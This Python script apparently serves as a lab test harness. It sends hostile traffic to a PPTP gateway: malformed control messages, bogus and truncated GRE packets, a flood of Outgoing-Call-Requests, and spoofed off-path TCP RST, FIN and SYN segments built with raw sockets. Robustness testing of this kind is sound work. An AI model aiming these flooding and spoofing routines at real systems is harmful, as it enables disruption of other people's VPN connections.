#!/usr/bin/python3
"""Hostile traffic for the lab, from inside a namespace; prints one JSON line.

  control-junk: a control connection whose messages are malformed (bad Magic Cookie, a
                false Length, an unknown type) and split across TCP segments;
  gre-junk:     enhanced GRE with Call IDs that belong to no call, and truncated GRE;
  ocrq-flood:   one control connection sending --count Outgoing-Call-Requests;
  tcp-spoof:    an off-path neighbour's RST, FIN and SYN (--count rounds) with the address
                --local and port --sport of another host's control connection toward
                --target:1723, with random sequence and acknowledgement numbers (a RST acts
                only at the one expected number, RFC 5961 3.2: a random one misses it with
                probability 1 - 2**-32)."""
import argparse
import json
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from pptplab import gre, messages as m  # noqa: E402


def segments(sock, data, size):
    for i in range(0, len(data), size):
        sock.sendall(data[i:i + size])
        time.sleep(0.02)  # with TCP_NODELAY: one segment each


def control_junk(a):
    sent = 0
    for junk in (
        m.sccrq()[:4] + b"\xde\xad\xbe\xef" + m.sccrq()[8:],        # bad Magic Cookie
        struct.pack("!H", 9000) + m.sccrq()[2:],                     # a Length no message has
        m.message(m.SCCRQ, b"")[:8] + b"\x00\x63\x00\x00" + b"\0" * 144,  # unknown type 99
    ):
        s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            segments(s, junk, 7)
            sent += 1
        except OSError:
            pass
        s.close()
    return {"connections": sent}


def gre_junk(a):
    raw = gre.open_socket(a.local)
    n = 0
    for i in range(a.count):
        raw.sendto(gre.build(40000 + i, b"\xff\x03\x00\x21junk", seq=i), (a.target, 0))
        n += 1
    raw.sendto(b"\x30\x81\x88", (a.target, 0))  # truncated
    raw.close()
    return {"packets": n + 1}


def ocrq_flood(a):
    s = socket.create_connection((a.target, 1723), timeout=5, source_address=(a.local, 0))
    s.sendall(m.sccrq("flood"))
    time.sleep(0.2)
    sent = 0
    try:
        for i in range(a.count):
            s.sendall(m.ocrq(1000 + i, i))
            sent += 1
    except OSError:
        pass
    time.sleep(0.5)
    s.close()
    return {"ocrq_sent": sent}


def tcp_checksum(src, dst, segment):
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    data = pseudo + segment + (b"\0" if len(segment) % 2 else b"")
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_segment(src, sport, dst, dport, flags, seq, ack):
    """An IPv4 packet carrying a bare TCP header with a correct checksum (the gateway
    ignores segments with a bad one, which would prove nothing)."""
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    header = header[:16] + struct.pack("!H", tcp_checksum(src, dst, header)) + header[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(header), random.getrandbits(16), 0, 64,
                     socket.IPPROTO_TCP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return ip + header


def tcp_spoof(a):
    fin_ack, rst, syn = 0x11, 0x04, 0x02
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # we write the IP header
    sent = []
    try:
        for _ in range(a.count):
            for name, flags in (("rst", rst), ("fin", fin_ack), ("syn", syn)):
                seq, ack = random.getrandbits(32), (random.getrandbits(32) if flags != syn else 0)
                s.sendto(tcp_segment(a.local, a.sport, a.target, 1723, flags, seq, ack), (a.target, 0))
                sent.append(name)
                time.sleep(0.1)
    finally:
        s.close()
    return {"sent": sent}


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("kind", choices=["control-junk", "gre-junk", "ocrq-flood", "tcp-spoof"])
    p.add_argument("--local", required=True)
    p.add_argument("--target", required=True)
    p.add_argument("--count", type=int, default=50)
    p.add_argument("--sport", type=int, help="tcp-spoof: the victim's TCP source port")
    a = p.parse_args()
    fn = {"control-junk": control_junk, "gre-junk": gre_junk, "ocrq-flood": ocrq_flood, "tcp-spoof": tcp_spoof}[a.kind]
    try:
        result = fn(a)
        result["ok"] = True
    except OSError as e:
        result = {"ok": False, "error": str(e)}
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
